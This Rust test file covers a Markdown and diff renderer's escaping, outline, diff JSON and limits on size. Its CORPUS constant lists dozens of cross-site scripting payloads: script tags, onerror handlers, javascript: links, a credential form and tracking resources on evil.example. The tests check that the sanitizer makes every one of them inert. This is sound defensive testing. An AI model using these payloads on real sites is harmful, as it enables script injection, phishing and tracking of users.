use super::{Heading, markdown, shown};

#[test]
fn markdown_as_html() {
    let check = |text: &str, html: &str| assert_eq!(markdown(text).trim_end(), html, "{text:?}");
    check("Deploy **now**?", "<p>Deploy <strong>now</strong>?</p>");
    check(
        "see [the notes](https://example.com/a?b=1&c)",
        "<p>see <a href=\"https://example.com/a?b=1&amp;c\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">the notes</a> <span class=\"address\">(https://example.com/a?b=1&amp;c)</span></p>",
    );
    check(
        "<https://example.com>",
        "<p><a href=\"https://example.com\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://example.com</a></p>",
    );
    check(
        "[settings](/api/asks) [x](file:///etc/passwd)",
        "<p>settings <span class=\"address\">(/api/asks)</span> x <span class=\"address\">(file:///etc/passwd)</span></p>",
    );
    check(
        "![a *cat*](https://example.com/cat.png)",
        "<p>[image: a <em>cat</em>] <span class=\"address\">(https://example.com/cat.png)</span></p>",
    );
    check(
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>",
    );
    check(
        "```rust\nlet x = \"<b>\";\n```",
        "<pre><code><span class=\"kw\">let</span> x <span class=\"op\">=</span> <span class=\"str\">\"&lt;b&gt;\"</span>;\n</code></pre>",
    );
    check(
        "```diff\n--- a\n+++ b\n@@ -1 +1 @@\n-old\n+<b>new\n same\n```",
        concat!(
            "<pre class=\"diff\"><code><span class=\"line meta\">--- a\n</span>",
            "<span class=\"line meta\">+++ b\n</span><span class=\"line hunk\">@@ -1 +1 @@\n</span>",
            "<span class=\"line del\">-old\n</span><span class=\"line add\">+&lt;b&gt;new\n</span>",
            "<span class=\"line\"> same\n</span></code></pre>",
        ),
    );
    check(
        "3. three\n4. four",
        "<ol start=\"3\">\n<li>three</li>\n<li>four</li>\n</ol>",
    );
    check(
        "pay\u{202e}lru and &#x202e; and \u{1b}[2J",
        "<p>pay⟨U+202E⟩lru and ⟨U+202E⟩ and ⟨U+001B⟩[2J</p>",
    );
}

#[test]
fn blocks_say_on_which_lines_they_stand() {
    let check = |text: &str, html: &str| {
        let shown = shown("", Some(text));
        assert_eq!(shown.details.unwrap().trim_end(), html, "{text:?}");
    };
    check(
        "# One\n\ntwo\nthree\n",
        "<h1 id=\"d-1\" data-line=\"1\">One</h1>\n<p data-line=\"3-4\">two\nthree</p>",
    );
    check(
        "- a\n- [x] b\n- [ ] c",
        concat!(
            "<ul>\n<li data-line=\"1\">a</li>\n",
            "<li class=\"task\" data-line=\"2\"><span class=\"box done\"></span><span class=\"unseen\">Done: </span>b</li>\n",
            "<li class=\"task\" data-line=\"3\"><span class=\"box open\"></span><span class=\"unseen\">To do: </span>c</li>\n</ul>",
        ),
    );
    check(
        "> a\n\n| a |\n|--:|\n| ~~1~~ |\n",
        concat!(
            "<blockquote data-line=\"1\">\n<p data-line=\"1\">a</p>\n</blockquote>\n",
            "<table><thead><tr data-line=\"3\"><th class=\"right\">a</th></tr></thead><tbody>\n",
            "<tr data-line=\"5\"><td class=\"right\"><del>1</del></td></tr>\n</tbody></table>",
        ),
    );
    check(
        "a\n\n```\nx\n```",
        "<p data-line=\"1\">a</p>\n<pre data-line=\"3-5\"><code>x\n</code></pre>",
    );
}

#[test]
fn headings_of_both_texts_are_the_outline() {
    let shown = shown("# Go *on*?", Some("a\n\n## `x`\u{202e} & <b>\n\n### Two\n"));
    let wanted = [
        (1, "Go on?", "m-1"),
        (2, "x⟨U+202E⟩ & <b>", "d-1"),
        (3, "Two", "d-2"),
    ];
    let wanted = wanted.map(|(level, text, id)| Heading {
        level,
        text: text.into(),
        id: id.into(),
    });
    assert_eq!(shown.outline, wanted);
}

#[test]
fn diffs_are_data_and_the_text_keeps_their_place() {
    let text =
        "```diff\n-one and two or three, four <b>\n+one and two or three, four \u{202e}\n```";
    let shown = shown(
        text,
        Some("```patch\n--- a/x.rs\n+++ b/x.rs\n@@ -3 +3 @@\n-let a = 1;\n+let a = 2;\n```"),
    );
    assert_eq!(
        shown.message.trim_end(),
        "<div class=\"diff\" data-diff=\"0\" data-line=\"1-4\"></div>"
    );
    assert!(shown.details.unwrap().contains("data-diff=\"1\""));
    let json = serde_json::to_value(&shown.diffs).unwrap();
    let file = &json[0]["files"][0];
    assert_eq!(
        file["hunks"][0]["lines"][0],
        serde_json::json!({ "k": "-", "t": [["one and two or three, four "], ["<b>", "w"]] })
    );
    assert_eq!(
        file["hunks"][0]["lines"][1],
        serde_json::json!({ "k": "+", "t": [["one and two or three, four "], ["⟨U+202E⟩", "w"]] })
    );
    let file = &json[1]["files"][0];
    assert_eq!(
        (&file["path"], &file["status"], &file["language"]),
        (&"x.rs".into(), &"modified".into(), &"Rust".into())
    );
    assert_eq!(
        (&file["added"], &file["removed"], &file["from"]),
        (&1.into(), &1.into(), &serde_json::Value::Null)
    );
    let line = &file["hunks"][0]["lines"][1];
    assert_eq!(
        (&line["k"], &line["n"], line.get("o")),
        (&"+".into(), &3.into(), None)
    );
    assert!(
        line["t"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!(["let", "kw"])),
        "{line}"
    );
    assert!(
        line["t"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!(["2", "num w"])),
        "{line}"
    );
}

#[test]
fn a_path_in_quotes_hides_nothing() {
    let shown = shown(
        "```diff\n--- \"a/\\342\\200\\256x\"\n+++ \"b/\\342\\200\\256x\"\n@@ -1 +1 @@\n-a\n+b\n```",
        None,
    );
    assert_eq!(shown.diffs[0].files[0].path, "⟨U+202E⟩x");
}

/// What attackers try. Some are Markdown, some HTML, some both.
const CORPUS: [&str; 46] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/track.png\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=https://evil.example><input name=pin><button>Approve</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://evil.example\" onclick=\"alert(1)\">x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"position:fixed;inset:0\" id=approve class=danger>x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "[x](<https://evil.example/' onmouseover='alert(1)>)",
    "![x](https://evil.example/x.png \"onerror=alert(1)\")",
    "![x\" onerror=\"alert(1)](x)",
    "```diff\n+<img src=x onerror=alert(1)>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "<a href=x>[y](javascript:alert(1))</a><script\n>alert(1)</script\n>",
];

#[test]
fn nothing_that_attackers_try_is_more_than_text() {
    for text in CORPUS {
        for text in [
            text.to_owned(),
            format!("a\n\n> {text}\n"),
            format!("| {text} |\n|-|\n| {text} |"),
        ] {
            let whole = shown(&text, Some(&text));
            let changed = super::changes("a", &text).unwrap_or_default();
            let html = markdown(&text) + &whole.message + &whole.details.unwrap() + &changed;
            for tag in tags(&html) {
                let fine = super::sanitize::TAGS.contains(
                    &tag.trim_start_matches('/')
                        .split([' ', '\n'])
                        .next()
                        .unwrap(),
                );
                assert!(fine, "<{tag}> out of {text:?}: {html}");
                for attribute in attributes(tag) {
                    let (name, value) = attribute;
                    let fine = match name {
                        "href" => {
                            value.starts_with("https://")
                                || value.starts_with("http://")
                                || value.starts_with("mailto:")
                        }
                        "class" | "start" | "rel" => true,
                        "data-line" | "data-diff" | "id" => value
                            .bytes()
                            .all(|byte| byte.is_ascii_digit() || b"-md".contains(&byte)),
                        "target" => value == "_blank",
                        _ => false,
                    };
                    assert!(fine, "{name}={value:?} out of {text:?}: {html}");
                }
            }
        }
    }
}

/// What stands between a `<` and the next `>`: text has neither.
fn tags(html: &str) -> Vec<&str> {
    html.split('<')
        .skip(1)
        .map(|rest| rest.split_once('>').expect("a whole tag").0)
        .collect()
}

fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut rest = tag
        .split_once(' ')
        .map(|(_, rest)| rest)
        .unwrap_or_default();
    let mut found = Vec::new();
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').expect("a closed value");
        found.push((name.trim(), value));
        rest = after;
    }
    assert_eq!(rest.trim(), "", "a strange rest in <{tag}>");
    found
}

#[test]
fn an_address_is_always_in_sight() {
    let check = |text: &str, address: &str| {
        let html = markdown(text);
        let seen: String = html
            .split('<')
            .filter_map(|part| part.split_once('>'))
            .map(|(_, text)| text)
            .collect();
        assert!(seen.contains(address), "{text:?}: {html}");
    };
    check(
        "[https://good.example](https://evil.example)",
        "(https://evil.example)",
    );
    check("[**b**](https://evil.example)", "(https://evil.example)");
    check(
        "[![x](https://a.example/i.png)](https://b.example)",
        "(https://b.example)",
    );
    check(
        "[![x](https://a.example/i.png)](https://b.example)",
        "(https://a.example/i.png)",
    );
    check(
        "[x][r]\n\n[r]: https://evil.example",
        "(https://evil.example)",
    );
    check("[](https://evil.example)", "(https://evil.example)");
}

#[test]
fn depth_and_size_do_no_harm() {
    for text in [
        ">".repeat(30_000) + "x",
        "* ".repeat(10_000) + "x",
        "[".repeat(30_000),
        "*a ".repeat(15_000),
        "<b>".repeat(20_000),
        "# a\n".repeat(20_000),
        "- [ ] a\n".repeat(10_000),
        format!("```diff\n{}```", "-a\n+b\n".repeat(20_000)),
        format!("```rust\n{}```", "let a = 'a; // \"\n".repeat(10_000)),
    ] {
        assert!(markdown(&text).len() < 8_000_000);
        assert!(shown(&text, None).message.len() < 8_000_000);
        assert!(super::changes("x", &text).unwrap_or_default().len() < 8_000_000);
    }
}

/// A diff of many files in several languages, with this many changed lines in each.
fn large_diff(files: usize, changed: usize) -> String {
    let mut text = String::from("```diff\n");
    for file in 0..files {
        let (ending, line): (_, fn(usize, &str) -> String) = match file % 3 {
            0 => ("rs", |n, word| {
                format!(
                    "    let value_{n} = {word}.iter().map(|item| item.len() + {n}).sum::<usize>(); // {word}"
                )
            }),
            1 => ("ts", |n, word| {
                format!(
                    "  const value{n}: number = {word}.map((item) => `${{item}} {n}`).length; // {word}"
                )
            }),
            _ => ("json", |n, word| {
                format!("  \"value_{n}\": {{ \"name\": \"{word}\", \"size\": {n} }},")
            }),
        };
        text.push_str(&format!(
            "diff --git a/src/f{file}.{ending} b/src/f{file}.{ending}\n"
        ));
        text.push_str(&format!(
            "--- a/src/f{file}.{ending}\n+++ b/src/f{file}.{ending}\n"
        ));
        for hunk in 0..changed / 10 {
            let start = hunk * 20 + 1;
            text.push_str(&format!("@@ -{start},11 +{start},11 @@\n"));
            for n in 0..3 {
                text.push_str(&format!(" {}\n", line(start + n, "before")));
            }
            for (mark, word) in [("-", "old_name"), ("+", "new_name")] {
                for n in 3..8 {
                    text.push_str(&format!("{mark}{}\n", line(start + n, word)));
                }
            }
            for n in 8..11 {
                text.push_str(&format!(" {}\n", line(start + n, "after")));
            }
        }
    }
    text.push_str("```\n");
    text
}

#[test]
#[ignore = "a measurement: run it with --release --no-capture"]
fn how_long_a_large_diff_takes() {
    let text = large_diff(40, 130);
    for run in ["first", "again"] {
        let begin = std::time::Instant::now();
        let shown = super::shown("Look", Some(&text));
        let rendered = begin.elapsed();
        let json = serde_json::to_string(&shown.diffs).unwrap();
        let files = &shown.diffs[0].files;
        let changed: usize = files.iter().map(|file| file.added + file.removed).sum();
        println!(
            "{run}: {changed} changed lines in {} files, {} KB: rendered in {rendered:?}, {} KB of JSON after {:?}",
            files.len(),
            text.len() / 1024,
            json.len() / 1024,
            begin.elapsed()
        );
    }
}
